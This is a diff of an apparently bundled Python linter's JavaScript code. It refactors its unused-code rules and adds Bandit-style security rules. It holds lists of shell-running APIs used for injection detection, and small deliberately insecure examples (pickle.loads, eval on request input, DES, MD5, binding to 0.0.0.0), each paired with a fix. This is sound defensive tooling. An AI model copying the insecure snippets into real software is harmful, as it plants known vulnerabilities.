-
-## What is not reported
-
-- \`from __future__ import ...\`: compiler directives, not names.
-- \`import name as name\` and \`from module import name as name\`: the explicit re-export idiom.
-- \`from module import *\`: which names it provides is not known.
-- Imports in a function or module that calls \`locals()\` (or \`vars()\` with no argument) in
-  that same scope: the names may be read through the returned dictionary.
-- Imports declared \`global\` or \`nonlocal\` first: they set a name for another scope.
-- Imports in a class body: they become class attributes, typically read as \`self.name\`.
-- An import that a later binding replaces before anything reads the name (\`import os\` then
-  \`os = ...\`, or \`try: import ssl\` / \`except ImportError: ssl = None\` with \`ssl\` never
-  read): that is a redefinition, a different check (pyflakes F811). Likewise, when one name is
-  imported several times and never read, only the last import is reported, as pyflakes and Ruff
-  do.
-- Files with syntax errors: without the whole file, a use could be missed.
-
-Reads the analysis cannot see do not count: names used only in \`eval\`/\`exec\` strings, doctests,
-\`# type:\` comments, through \`globals()\`, or by other modules importing the name from this one.
-Imports in \`__init__.py\` files are reported like any other: list re-exported names in \`__all__\`
-or use the \`as\` form above.`;
-const meta = {
-    id: 'unused-import',
-    name: 'UnusedImport',
-    kind: 'maintainability',
-    shortDescription: 'An imported name is never used',
-    fullDescription: 'An import binds a name that nothing in the module reads: not later code, not a function or ' +
-        'class body, decorator, default value, annotation (string annotations included) or f-string, ' +
-        'and not __all__. The module is still loaded for nothing, and readers are misled about what ' +
-        'the code depends on.',
-    help: HELP,
-    category: 'useless-code',
-    aliases: ['F401', 'W0611'],
-    precision: 'very-high',
-    problemSeverity: 'recommendation',
-    needsCleanParse: true,
-};
+const binding_rule_1 = __nccwpck_require__(7663);
 /** Import bindings this rule judges (see the file comment for the exceptions). */
 function isCandidate(binding) {
     if (binding.kind !== 'import' && binding.kind !== 'from-import')
@@ -9114,83 +9745,152 @@ function unusedImportMessage(binding) {
     const alias = info.alias !== undefined ? ` (as \`${info.alias}\`)` : '';
     return `\`${info.qualifiedName}\`${alias} is imported but never used`;
 }
-exports.unusedImport = {
-    meta,
-    uses: [scopes_1.scopes],
-    create(context) {
-        return {
-            end() {
-                const model = context.analysis(scopes_1.scopes.name);
-                for (const binding of model.bindings) {
-                    if (!isCandidate(binding) || !isLastOfGroup(binding))
-                        continue;
-                    if ((0, scopes_1.isGroupUsed)(binding) || loadsSubmoduleForAlias(binding))
-                        continue;
-                    const info = binding.import;
-                    context.report(meta, info.aliasNode ?? info.nameNode, unusedImportMessage(binding));
-                }
-            },
-        };
+exports.unusedImport = (0, binding_rule_1.bindingRule)({
+    meta: {
+        id: 'unused-import',
+        name: 'UnusedImport',
+        kind: 'maintainability',
+        shortDescription: 'An imported name is never used',
+        fullDescription: 'An import binds a name that nothing in the module reads: not later code, not a function or ' +
+            'class body, decorator, default value, annotation (string annotations included) or f-string, ' +
+            'and not __all__. The module is still loaded for nothing, and readers are misled about what ' +
+            'the code depends on.',
+        category: 'useless-code',
+        aliases: ['F401', 'W0611'],
+        precision: 'very-high',
+        problemSeverity: 'recommendation',
+        needsCleanParse: true,
     },
-};
+    docs: {
+        title: 'An imported name is never used',
+        why: `An \`import\` whose name nothing in the module reads does no useful work, yet it still runs: the
+module is loaded (which can be slow, have side effects, or fail when an optional dependency is
+missing), and the name suggests to the reader a dependency that does not exist. Unused imports
+usually remain after a refactoring, and they hide the imports that matter, lengthen dependency
+lists and can create import cycles.`,
+        example: `import os
+import sys
+import numpy as np
+from typing import List, Optional
+
+
+def greet(name: Optional[str]) -> None:
+    sys.stdout.write(f"hello {name or 'world'}\\n")`,
+        exampleNote: '`os`, `numpy` (as `np`) and `typing.List` are reported: nothing reads `os`, `np` or `List`.',
+        fix: 'Delete the import, or only the unused names of a `from ... import` list:',
+        fixed: `import sys
+from typing import Optional
+
+
+def greet(name: Optional[str]) -> None:
+    sys.stdout.write(f"hello {name or 'world'}\\n")`,
+        notReported: [
+            '`from __future__ import ...`: compiler directives, not names.',
+            '`import name as name` and `from module import name as name`: the explicit re-export idiom.',
+            '`from module import *`: which names it provides is not known.',
+            `Imports in a function or module that calls \`locals()\` (or \`vars()\` with no argument) in
+  that same scope: the names may be read through the returned dictionary.`,
+            'Imports declared `global` or `nonlocal` first: they set a name for another scope.',
+            'Imports in a class body: they become class attributes, typically read as `self.name`.',
+            `An import that a later binding replaces before anything reads the name (\`import os\` then
+  \`os = ...\`, or \`try: import ssl\` / \`except ImportError: ssl = None\` with \`ssl\` never
+  read): that is a redefinition, a different check (pyflakes F811). Likewise, when one name is
+  imported several times and never read, only the last import is reported, as pyflakes and Ruff
+  do.`,
+            'Files with syntax errors: without the whole file, a use could be missed.',
+        ],
+        more: `Reads the analysis cannot see do not count: names used only in \`eval\`/\`exec\` strings, doctests,
+\`# type:\` comments, through \`globals()\`, or by other modules importing the name from this one.
+Imports in \`__init__.py\` files are reported like any other: list re-exported names in \`__all__\`
+or use the \`as\` form below.
+
+## When the import is there on purpose
+
+If the import is there on purpose, make the intent visible:
+
+- A re-export from a package's \`__init__.py\` or an API module: list the name in \`__all__\`, or
+  write it as \`from .module import name as name\` (or \`import name as name\`), the explicit
+  re-export form that type checkers also understand.
+- An import kept for its side effects (registering plugins, patching): keep it and suppress the
+  finding on that line, with a comment saying why.
+- An availability check (\`try: import lxml\` ... \`except ImportError:\`): use
+  \`importlib.util.find_spec("lxml") is not None\`, which does not import the module.
+
+## What counts as a use
+
+Any read of the name in the module: statements after the import, function bodies wherever they
+are defined (they run when called, after the module has loaded), class bodies, decorators, default
+values, annotations, names inside string annotations such as \`"Optional[Node]"\` or
+\`cast("Node", value)\`, f-strings, class bases and keywords, \`del name\`, and the strings listed in
+\`__all__\` (\`__all__ = [...]\`, \`__all__ += [...]\`, \`__all__.extend([...])\`,
+\`__all__.append(...)\`). \`import a.b\` binds \`a\`, so any use of \`a\` uses it. When a name is
+bound several times in one scope (an import in \`try\` and a fallback in \`except ImportError\`,
+imports in both branches of an \`if\`), a read of the name uses all of them.`,
+    },
+    judge: () => (binding) => {
+        if (!isCandidate(binding) || !isLastOfGroup(binding))
+            return undefined;
+        if ((0, scopes_1.isGroupUsed)(binding) || loadsSubmoduleForAlias(binding))
+            return undefined;
+        const info = binding.import;
+        return { node: info.aliasNode ?? info.nameNode, message: unusedImportMessage(binding) };
+    },
+});
 
 
 /***/ }),
 
 /***/ 2477:
-/***/ ((__unused_webpack_module, exports) => {
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
 
 
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.unusedSuppression = void 0;
-const HELP = `## Why
-
-A suppression comment that suppresses nothing is noise: the problem it silenced was fixed (or
+/**
+ * Ruff RUF100: a suppression comment naming a Tendril rule that reported nothing where the comment
+ * applies. The engine reports this rule (src/engine/analyze.ts) once every other rule has run on
+ * the file: it needs all findings and the suppression comments collected in the walk, so the
+ * rule's own visitor is empty.
+ */
+const define_1 = __nccwpck_require__(5544);
+exports.unusedSuppression = (0, define_1.defineRule)({
+    meta: {
+        id: 'unused-suppression',
+        name: 'UnusedSuppression',
+        kind: 'maintainability',
+        shortDescription: 'A suppression comment suppresses nothing',
+        fullDescription: 'A # noqa, # nosec, # pylint: disable or # tendril: ignore comment names a Tendril rule that ' +
+            'reports nothing where the comment applies. The comment is stale and would hide a later finding.',
+        category: 'useless-code',
+        aliases: ['RUF100'],
+        precision: 'high',
+        problemSeverity: 'recommendation',
+    },
+    docs: {
+        title: 'A suppression comment suppresses nothing',
+        why: `A suppression comment that suppresses nothing is noise: the problem it silenced was fixed (or
 never there), and the comment now hides the next real finding on that line.
-
-## Example
-
-\`\`\`python
-import os  # noqa: F401
-print(os.sep)
-\`\`\`
-
-\`os\` is used, so \`# noqa: F401\` suppresses nothing: remove it.
 
 ## What is reported
 
 A code in \`# noqa: ...\`, \`# nosec ...\`, \`# pylint: disable=...\`, \`# ruff: noqa: ...\` or
 \`# tendril: ignore[...]\` that names a Tendril rule enabled in the run (by id or alias) and
-suppressed no finding of it.
-
-## What is not reported
-
-- Bare \`# noqa\`, \`# nosec\` and \`# tendril: ignore\`: they may be there for another tool.
-- Codes Tendril does not implement (\`# noqa: E501\`): they belong to other linters.
-- Codes of rules not enabled in the run (left out by \`select\`, \`ignore\` or \`per-file-ignores\`).
-
-Suppress this note itself with \`# noqa: RUF100\` on the same line.`;
-const meta = {
-    id: 'unused-suppression',
-    name: 'UnusedSuppression',
-    kind: 'maintainability',
-    shortDescription: 'A suppression comment suppresses nothing',
-    fullDescription: 'A # noqa, # nosec, # pylint: disable or # tendril: ignore comment names a Tendril rule that ' +
-        'reports nothing where the comment applies. The comment is stale and would hide a later finding.',
-    help: HELP,
-    category: 'useless-code',
-    aliases: ['RUF100'],
-    precision: 'high',
-    problemSeverity: 'recommendation',
-};
-/**
- * The engine reports this rule (src/engine/analyze.ts) once every other rule has run on the file:
- * it needs all findings and the suppression comments collected in the walk.
- */
-exports.unusedSuppression = {
-    meta,
+suppressed no finding of it.`,
+        example: `import os  # noqa: F401
+print(os.sep)`,
+        exampleNote: '`os` is used, so `# noqa: F401` suppresses nothing: remove it.',
+        fix: 'Remove the codes that suppress nothing, and the comment when no code is left:',
+        fixed: `import os
+print(os.sep)`,
+        notReported: [
+            'Bare `# noqa`, `# nosec` and `# tendril: ignore`: they may be there for another tool.',
+            'Codes Tendril does not implement (`# noqa: E501`): they belong to other linters.',
+            'Codes of rules not enabled in the run (left out by `select`, `ignore` or `per-file-ignores`).',
+        ],
+        more: 'Suppress this note itself with `# noqa: RUF100` on the same line.',
+    },
     create: () => ({}),
-};
+});
 
 
 /***/ }),
@@ -9221,71 +9921,7 @@ exports.unusedVariable = void 0;
  *   parameters, imports (see unused-import), definitions.
  */
 const scopes_1 = __nccwpck_require__(7985);
-const HELP = `# A local variable is assigned but never read
-
-A function that stores a value in a local variable and then never reads it either does
-unnecessary work or, more often, has a bug: the value was meant to be returned, passed on or
-checked, and a later edit lost the read (or a typo reads another name instead). Either way the
-reader has to work out that the assignment is dead.
-
-## Example
-
-\`\`\`python
-def save(record, path):
-    data = serialize(record)
-    try:
-        with open(path, "w") as handle:
-            status = handle.write(data)
-    except OSError as error:
-        log.warning("could not save %s", path)
-\`\`\`
-
-\`status\` and \`error\` are reported: nothing reads them.
-
-## How to fix
-
-Drop the assignment (keep the call if it has effects: \`handle.write(data)\`), use the value, or,
-when a name is required but the value is not wanted, name it \`_\` or give it a leading underscore
-(\`_status\`). For \`except OSError as error:\` with \`error\` unused, write \`except OSError:\`.
-
-## How it decides
-
-Only function (and lambda) locals are judged, plus the name of \`except ... as name\` in any scope
-(Python deletes it at the end of the handler). Reads count anywhere they can see the variable:
-later statements, nested functions, lambdas and comprehensions, \`del name\`, \`name += 1\`. When a
-name is assigned several times and never read, one note is given, on the last assignment.
-
-## What is not reported
-
-- \`_\` and names starting with \`_\`: the conventional "deliberately unused" names.
-- Unpacking targets, \`first, rest = split(line)\`: naming every part is often clearer than
-  indexing. (\`a, b = 1, 2\`, where the value is a tuple or list display, is reported: no
-  unpacking is needed.)
-- \`for\` loop targets, parameters, imports (see \`unused-import\`), functions and classes.
-- Names declared \`global\` or \`nonlocal\`, and variables a nested function declares \`nonlocal\`
-  (the nested function writes them for someone to read).
-- Walrus targets inside comprehensions, \`[y for x in data if (y := f(x))]\`.
-- Everything in a function that calls \`locals()\` (or \`vars()\` with no argument): the names may be
-  read through the returned dictionary.
-- Files with syntax errors: without the whole file, a read could be missed.
-
-Reads the analysis cannot see do not count: names read only in \`eval\`/\`exec\` strings or through
-frame inspection.`;
-const meta = {
-    id: 'unused-variable',
-    name: 'UnusedVariable',
-    kind: 'maintainability',
-    shortDescription: 'A local variable is assigned but never read',
-    fullDescription: 'A function assigns a local variable (or binds an exception with `except ... as name`) and ' +
-        'nothing reads it afterwards: not later code, not a nested function or comprehension. The ' +
-        'work is wasted, and the missing read is often a bug.',
-    help: HELP,
-    category: 'useless-code',
-    aliases: ['F841', 'W0612'],
-    precision: 'very-high',
-    problemSeverity: 'recommendation',
-    needsCleanParse: true,
-};
+const binding_rule_1 = __nccwpck_require__(7663);
 const JUDGED = new Set(['assignment', 'with', 'walrus', 'except']);
 const UNPACKING = new Set(['pattern_list', 'tuple_pattern', 'list_pattern', 'tuple', 'list', 'list_splat_pattern', 'expression_list']);
 const DISPLAYS = new Set(['tuple', 'list', 'expression_list']);
@@ -9353,34 +9989,189 @@ function lastValueOfGroup(binding) {
             return group[i];
     return undefined;
 }
-exports.unusedVariable = {
-    meta,
-    uses: [scopes_1.scopes],
+exports.unusedVariable = (0, binding_rule_1.bindingRule)({
+    meta: {
+        id: 'unused-variable',
+        name: 'UnusedVariable',
+        kind: 'maintainability',
+        shortDescription: 'A local variable is assigned but never read',
+        fullDescription: 'A function assigns a local variable (or binds an exception with `except ... as name`) and ' +
+            'nothing reads it afterwards: not later code, not a nested function or comprehension. The ' +
+            'work is wasted, and the missing read is often a bug.',
+        category: 'useless-code',
+        aliases: ['F841', 'W0612'],
+        precision: 'very-high',
+        problemSeverity: 'recommendation',
+        needsCleanParse: true,
+    },
+    docs: {
+        title: 'A local variable is assigned but never read',
+        why: `A function that stores a value in a local variable and then never reads it either does
+unnecessary work or, more often, has a bug: the value was meant to be returned, passed on or
+checked, and a later edit lost the read (or a typo reads another name instead). Either way the
+reader has to work out that the assignment is dead.`,
+        example: `def save(record, path):
+    data = serialize(record)
+    try:
+        with open(path, "w") as handle:
+            status = handle.write(data)
+    except OSError as error:
+        log.warning("could not save %s", path)`,
+        exampleNote: '`status` and `error` are reported: nothing reads them.',
+        fix: `Drop the assignment (keep the call if it has effects: \`handle.write(data)\`), use the value, or,
+when a name is required but the value is not wanted, name it \`_\` or give it a leading underscore
+(\`_status\`). For \`except OSError as error:\` with \`error\` unused, write \`except OSError:\`.`,
+        fixed: `def save(record, path):
+    data = serialize(record)
+    try:
+        with open(path, "w") as handle:
+            handle.write(data)
+    except OSError:
+        log.warning("could not save %s", path)`,
+        notReported: [
+            '`_` and names starting with `_`: the conventional "deliberately unused" names.',
+            `Unpacking targets, \`first, rest = split(line)\`: naming every part is often clearer than
+  indexing. (\`a, b = 1, 2\`, where the value is a tuple or list display, is reported: no
+  unpacking is needed.)`,
+            '`for` loop targets, parameters, imports (see `unused-import`), functions and classes.',
+            `Names declared \`global\` or \`nonlocal\`, and variables a nested function declares \`nonlocal\`
+  (the nested function writes them for someone to read).`,
+            'Walrus targets inside comprehensions, `[y for x in data if (y := f(x))]`.',
+            `Everything in a function that calls \`locals()\` (or \`vars()\` with no argument): the names may be
+  read through the returned dictionary.`,
+            'Files with syntax errors: without the whole file, a read could be missed.',
+        ],
+        more: `Reads the analysis cannot see do not count: names read only in \`eval\`/\`exec\` strings or through
+frame inspection.
+
+## How it decides
+
+Only function (and lambda) locals are judged, plus the name of \`except ... as name\` in any scope
+(Python deletes it at the end of the handler). Reads count anywhere they can see the variable:
+later statements, nested functions, lambdas and comprehensions, \`del name\`, \`name += 1\`. When a
+name is assigned several times and never read, one note is given, on the last assignment.`,
+    },
+    judge: (_context, model) => {
+        let written;
+        return (binding) => {
+            if (!isCandidate(binding))
+                return undefined;
+            if (binding.kind === 'except') {
+                if (binding.reads > 0 || binding.scope.usesLocals)
+                    return undefined;
+            }
+            else {
+                if (lastValueOfGroup(binding) !== binding || (0, scopes_1.isGroupUsed)(binding))
+                    return undefined;
+            }
+            written ??= nonlocalTargets(model);
+            if (written.has(binding))
+                return undefined;
+            return `Local variable \`${binding.name}\` is assigned but never read`;
+        };
+    },
+});
+
+
+/***/ }),
+
+/***/ 1813:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.NO_SHELL_FUNCTIONS = exports.SHELL_FUNCTIONS = exports.SUBPROCESS_FUNCTIONS = exports.HTTPX_FUNCTIONS = exports.REQUESTS_FUNCTIONS = exports.HTTP_METHODS = void 0;
+/**
+ * Lists of APIs that several security rules share, by qualified name as the call model resolves
+ * them (src/analysis/calls.ts). A list used by one rule stays in that rule's file.
+ */
+const common_1 = __nccwpck_require__(8925);
+/** The HTTP verbs of requests' and httpx's module-level functions. */
+exports.HTTP_METHODS = 'get options head post put patch delete request';
+/** `requests.get`, `requests.post`, ...: the module-level functions that send a request. */
+exports.REQUESTS_FUNCTIONS = (0, common_1.qualify)('requests', exports.HTTP_METHODS);
+/** httpx's module-level request functions, its streaming call and its client classes. */
+exports.HTTPX_FUNCTIONS = [...(0, common_1.qualify)('httpx', `${exports.HTTP_METHODS} stream Client AsyncClient`)];
+/** The `subprocess` functions that take `shell=` (Bandit's `shell_injection.subprocess` list). */
+exports.SUBPROCESS_FUNCTIONS = [
+    'subprocess.Popen',
+    'subprocess.call',
+    'subprocess.check_call',
+    'subprocess.check_output',
+    'subprocess.run',
+];
+/** Functions that always run their command through a shell (Bandit's `shell_injection.shell` list). */
+exports.SHELL_FUNCTIONS = [
+    'os.system', ...(0, common_1.qualify)('os', 'popen popen2 popen3 popen4'),
+    ...(0, common_1.qualify)('popen2', 'popen2 popen3 popen4 Popen3 Popen4'),
+    ...(0, common_1.qualify)('commands', 'getoutput getstatusoutput'),
+    ...(0, common_1.qualify)('subprocess', 'getoutput getstatusoutput'),
+];
+/** Functions that start a program without a shell (Bandit's `shell_injection.no_shell` list). */
+exports.NO_SHELL_FUNCTIONS = [
+    ...(0, common_1.qualify)('os', 'execl execle execlp execlpe execv execve execvp execvpe spawnl spawnle spawnlp spawnlpe spawnv spawnve spawnvp spawnvpe startfile'),
+];
+
+
+/***/ }),
+
+/***/ 5362:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.assertUsed = void 0;
+const common_1 = __nccwpck_require__(8925);
+exports.assertUsed = (0, common_1.securityRule)({
+    id: 'assert-used', name: 'AssertUsed', bandit: 'B101', ruff: 'S101', severity: 'LOW', confidence: 'HIGH',
+    category: 'reliability', cwe: [703],
+    short: 'assert statement used (removed when Python runs with -O)',
+    full: 'An assert statement is compiled away when Python runs with -O or PYTHONOPTIMIZE, so a check written with assert (an access check, input validation) silently disappears in optimized runs.',
+    title: 'An `assert` statement',
+    why: 'Python removes every `assert` when it runs with `-O` (or `PYTHONOPTIMIZE` is set). An `assert` that enforces something the program relies on (a permission, a valid input, an invariant protecting data) then no longer runs, and the code continues as if the check had passed.',
+    example: 'def delete(user, item):\n    assert user.is_admin\n    item.delete()',
+    fix: 'Raise an exception explicitly: `if not user.is_admin: raise PermissionError(...)`. In tests, `assert` is the norm; exclude test files from the security analysis or dismiss the alerts there.',
+    fixed: 'def delete(user, item):\n    if not user.is_admin:\n        raise PermissionError("only an administrator may delete items")\n    item.delete()',
+    notReported: ['Nothing is exempted: every `assert` statement is reported, including in tests (as Bandit and Ruff do).'],
     create(context) {
         return {
-            end() {
-                const model = context.analysis(scopes_1.scopes.name);
-                let written;
-                for (const binding of model.bindings) {
-                    if (!isCandidate(binding))
-                        continue;
-                    if (binding.kind === 'except') {
-                        if (binding.reads > 0 || binding.scope.usesLocals)
-                            continue;
-                    }
-                    else {
-                        if (lastValueOfGroup(binding) !== binding || (0, scopes_1.isGroupUsed)(binding))
-                            continue;
-                    }
-                    written ??= nonlocalTargets(model);
-                    if (written.has(binding))
-                        continue;
-                    context.report(meta, binding.node, `Local variable \`${binding.name}\` is assigned but never read`);
-                }
+            assert_statement(node) {
+                context.report(node.child(0) ?? node, '`assert` is removed when Python runs with -O; raise an exception for checks the program relies on');
             },
         };
     },
-};
+});
+
+
+/***/ }),
+
+/***/ 9838:
+/***/ ((__unused_webpack_module, exports, __nccwpck_require__) => {
+
+
+Object.defineProperty(exports, "__esModule", ({ value: true }));
+exports.bindAllInterfaces = void 0;
+/** Bandit B104 / Ruff S104: the string literal "0.0.0.0", the address of every network interface. */
+const common_1 = __nccwpck_require__(8925);
+const string_literals_1 = __nccwpck_require__(3694);
+exports.bindAllInterfaces = (0, common_1.securityRule)({
+    id: 'bind-all-interfaces', name: 'BindAllInterfaces', bandit: 'B104', ruff: 'S104', severity: 'MEDIUM', confidence: 'MEDIUM',
+    category: 'network', cwe: [605],
+    short: 'the address "0.0.0.0": binding to every network interface',
+    full: 'A string literal "0.0.0.0", the address that makes a server listen on every interface of the machine, including public ones.',
+    title: 'Binding to all network interfaces',
+    why: 'A service bound to `0.0.0.0` accepts connections on every interface of the host, public ones included. A development server or an admin endpoint meant for local use becomes reachable from the network.',
+    example: 'app.run(host="0.0.0.0", port=8080)',
+    fix: 'Bind to `127.0.0.1` (or a specific interface) by default and make a wider address an explicit deployment setting.',
+    fixed: 'app.run(host="127.0.0.1", port=8080)',
+    notReported: ['Strings built at run time; only a literal exactly equal to `0.0.0.0` is reported, wherever it appears.'],
+    create(context) {
+        return (0, string_literals_1.literalStrings)(context, ['0.0.0.0'], (node, value) => {
+            if (value === '0.0.0.0')
+                context.report(node, '"0.0.0.0" binds to every network interface; bind to a specific address');
+        });
+    },
+});
 
 
 /***/ }),
@@ -9392,16 +10183,12 @@ exports.unusedVariable = {
 Object.defineProperty(exports, "__esModule", ({ value: true }));
 exports.BLACKLIST_CALL_RULES = void 0;
 const calls_1 = __nccwpck_require__(4463);
+const arguments_1 = __nccwpck_require__(9950);
+const literals_1 = __nccwpck_require__(8436);
 const common_1 = __nccwpck_require__(8925);
 const CRYPTO_HASH = ['MD2', 'MD4', 'MD5', 'SHA'].flatMap((h) => [`Crypto.Hash.${h}.new`, `Cryptodome.Hash.${h}.new`]);
 const CRYPTO_CIPHER = ['ARC2', 'ARC4', 'Blowfish', 'DES', 'XOR'].flatMap((c) => [`Crypto.Cipher.${c}.new`, `Cryptodome.Cipher.${c}.new`]);
 const XML_PARSE = 'parse iterparse fromstring XMLParser';
-const INSECURE_HASHES = new Set(['md4', 'md5', 'sha', 'sha1', 'md2']);
-/** `usedforsecurity=False` written as a constant: the hash is declared non-cryptographic. */
-function notForSecurity(call) {
-    const value = (0, calls_1.keywordValue)(call.node, 'usedforsecurity');
-    return value !== undefined && (0, calls_1.truthiness)(value) === false;
-}
 const HTTP = /^https?:\/\//i;
 /**
  * The values assigned to the variable `name` in the function (or module) around `at`, when every
@@ -9454,21 +10241,21 @@ function assignedValues(at, name) {
  * when every assignment to it in the same function is such a literal (Ruff reads it the same way).
  */
 function fixedHttpUrl(call) {
-    const url = (0, calls_1.argumentAt)(call.node, 0, 'url');
+    const url = (0, arguments_1.argumentAt)(call.node, 0, 'url');
     if (!url)
         return false;
-    const expr = (0, calls_1.unparenthesize)(url);
+    const expr = (0, literals_1.unparenthesize)(url);
     const values = expr.type === 'identifier' ? assignedValues(expr, expr.text) : [expr];
     if (!values || values.length === 0)
         return false;
     return values.every((v) => {
-        const value = (0, calls_1.stringLiteralValue)(v) ?? fStringPrefix(v);
+        const value = (0, literals_1.stringLiteralValue)(v) ?? fStringPrefix(v);
         return value !== undefined && HTTP.test(value.trim());
     });
 }
 /** The literal text of an f-string before its first field (`f"https://{host}/"` -> `https://`). */
 function fStringPrefix(node) {
-    const expr = (0, calls_1.unparenthesize)(node);
+    const expr = (0, literals_1.unparenthesize)(node);
     const first = expr.type === 'concatenated_string' ? expr.namedChildren.find((c) => c?.type === 'string') : expr;
     if (!first || first.type !== 'string')
         return undefined;
@@ -9495,6 +10282,7 @@ const ENTRIES = [
         why: 'Unpickling runs whatever the byte stream asks for: a pickle can name any importable callable and its arguments, so loading one from an untrusted source (a request, a cache, a file a user can write) lets its author run code in the process.',
         example: 'import pickle\n\ndef restore(blob):\n    return pickle.loads(blob)',
         fix: 'Exchange data in a format that carries only data (`json`, or a schema-checked format). If pickles must cross a trust boundary, sign them (`hmac`) and verify the signature before loading.',
+        fixed: 'import json\n\ndef restore(blob):\n    return json.loads(blob)',
         says: 'deserializes with pickle, which can run arbitrary code when the data is untrusted',
     },
     {
@@ -9504,6 +10292,7 @@ const ENTRIES = [
         why: '`marshal` is an internal format for code objects; it is not hardened against malformed or malicious input and can produce code objects that run when called.',
         example: 'import marshal\n\nobj = marshal.loads(received)',
         fix: 'Use `json` or another data-only format for anything that comes from outside the program.',
+        fixed: 'import json\n\nobj = json.loads(received)',
         says: 'deserializes with marshal, which is not safe for untrusted data',
     },
     {
@@ -9514,6 +10303,7 @@ const ENTRIES = [
         why: 'MD2, MD4, MD5 and SHA-1 have practical collision attacks. Signatures, integrity checks and fingerprints built on them can be forged.',
         example: 'from Crypto.Hash import MD5\n\ndigest = MD5.new(data).hexdigest()',
         fix: 'Use SHA-256 or stronger (`SHA256.new`, `hashes.SHA256()`); for passwords use a password hash (scrypt, argon2, PBKDF2).',
+        fixed: 'from Crypto.Hash import SHA256\n\ndigest = SHA256.new(data).hexdigest()',
         notReported: ['`hashlib` calls: those are `insecure-hashlib-function` (B324).'],
         says: 'uses a broken hash algorithm',
     },
@@ -9528,6 +10318,7 @@ const ENTRIES = [
         why: 'These ciphers have small keys, small blocks or known breaks; data encrypted with them should be considered readable by a determined attacker.',
         example: 'from Crypto.Cipher import DES\n\ncipher = DES.new(key, DES.MODE_CBC, iv)',
         fix: 'Use AES (for example AES-GCM via `cryptography`\'s `AESGCM`) or ChaCha20-Poly1305.',
+        fixed: 'from cryptography.hazmat.primitives.ciphers.aead import AESGCM\n\ncipher = AESGCM(key)',
         says: 'uses a broken or weak cipher',
     },
     {
@@ -9537,6 +10328,7 @@ const ENTRIES = [
         why: 'ECB encrypts equal plaintext blocks to equal ciphertext blocks, so patterns of the data show through the encryption.',
         example: 'from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n\nc = Cipher(algorithms.AES(key), modes.ECB())',
         fix: 'Use an authenticated mode such as GCM (or CBC/CTR with a MAC).',
+        fixed: 'from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n\nc = Cipher(algorithms.AES(key), modes.GCM(iv))',
         says: 'uses ECB mode, which leaks patterns of the plaintext',
     },
     {
@@ -9546,6 +10338,7 @@ const ENTRIES = [
         why: '`mktemp` only returns a name. Between choosing it and opening it another process can create that file or a symlink there (a race), and the program then writes where the attacker wants.',
         example: 'import tempfile\n\npath = tempfile.mktemp()\nwith open(path, "w") as f:\n    f.write(data)',
         fix: 'Use `tempfile.mkstemp()`, `NamedTemporaryFile()` or `TemporaryDirectory()`, which create the file atomically.',
+        fixed: 'import tempfile\n\nwith tempfile.NamedTemporaryFile("w", delete=False) as f:\n    f.write(data)',
         says: 'returns a temporary file name without creating the file (race condition)',
     },
     {
@@ -9555,6 +10348,7 @@ const ENTRIES = [
         why: '`eval` runs any Python expression, including calls such as `__import__("os").system(...)`. If any part of the string comes from outside the program, so does the code that runs.',
         example: 'value = eval(request.args["n"])',
         fix: 'Parse literals with `ast.literal_eval`, numbers with `int`/`float`, structures with `json.loads`; dispatch on names with a dictionary.',
+        fixed: 'value = int(request.args["n"])',
         notReported: ['A method or function named `eval` that is not the builtin (`model.eval()`, a local `def eval`).'],
         says: 'evaluates a string as Python code; use ast.literal_eval for literals',
     },
@@ -9565,6 +10359,7 @@ const ENTRIES = [
         why: '`mark_safe` tells templates not to escape a value. If that value contains anything a user controls, it reaches the page as HTML and script (cross-site scripting).',
         example: 'from django.utils.safestring import mark_safe\n\nhtml = mark_safe(f"<b>{user.name}</b>")',
         fix: 'Build HTML with `django.utils.html.format_html`, which escapes its arguments, or let the template escape.',
+        fixed: 'from django.utils.html import format_html\n\nhtml = format_html("<b>{}</b>", user.name)',
         says: 'marks a string safe, disabling HTML escaping',
     },
     {
@@ -9581,6 +10376,7 @@ const ENTRIES = [
         why: 'urllib follows `file://` and other schemes as readily as `http(s)://`. A URL from outside the program can therefore read local files or reach unexpected handlers.',
         example: 'import urllib.request\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()',
         fix: 'Check the scheme first (`urllib.parse.urlsplit(url).scheme in {"http", "https"}`), or use an HTTP-only client.',
+        fixed: 'import requests\n\ndef fetch(url):\n    return requests.get(url, timeout=10).content',
         notReported: ['A URL written as a literal string (or an f-string whose fixed start) beginning with `http://` or `https://`, or a variable every assignment of which in the same function is such a literal.'],
         says: 'opens a URL without restricting its scheme (file:// and custom schemes are allowed)',
     },
@@ -9592,6 +10388,7 @@ const ENTRIES = [
         why: '`random` is a Mersenne Twister: fast and reproducible, and predictable from a few hundred outputs. Tokens, passwords, salts or keys made with it can be guessed.',
         example: 'import random\n\ntoken = "".join(random.choice(ALPHABET) for _ in range(32))',
         fix: 'Use the `secrets` module (`secrets.token_hex`, `secrets.choice`) or `random.SystemRandom`. For simulations and tests, `random` is fine and the alert can be dismissed.',
+        fixed: 'import secrets\n\ntoken = "".join(secrets.choice(ALPHABET) for _ in range(32))',
         says: 'uses a pseudo-random generator that is predictable; use `secrets` for security purposes',
     },
     {
@@ -9601,6 +10398,7 @@ const ENTRIES = [
         why: 'Telnet has no encryption: passwords and data can be read and altered by anyone on the path.',
         example: 'import telnetlib\n\nconn = telnetlib.Telnet(host)',
         fix: 'Use SSH (for example `paramiko` or `asyncssh`).',
+        fixed: 'import paramiko\n\nconn = paramiko.SSHClient()\nconn.load_system_host_keys()\nconn.connect(host)',
         says: 'uses Telnet, which sends data and credentials unencrypted',
     },
     ...xmlEntries(),
@@ -9611,6 +10409,7 @@ const ENTRIES = [
         why: 'Plain FTP has no encryption: logins and files can be read and altered on the network.',
         example: 'import ftplib\n\nftp = ftplib.FTP(host)\nftp.login(user, password)',
         fix: 'Use SFTP or SCP over SSH; if FTP is required, `ftplib.FTP_TLS` with `prot_p()`.',
+        fixed: 'import paramiko\n\nssh = paramiko.SSHClient()\nssh.load_system_host_keys()\nssh.connect(host, username=user, password=password)\nsftp = ssh.open_sftp()',
         says: 'uses FTP, which sends data and credentials unencrypted',
     },
     {
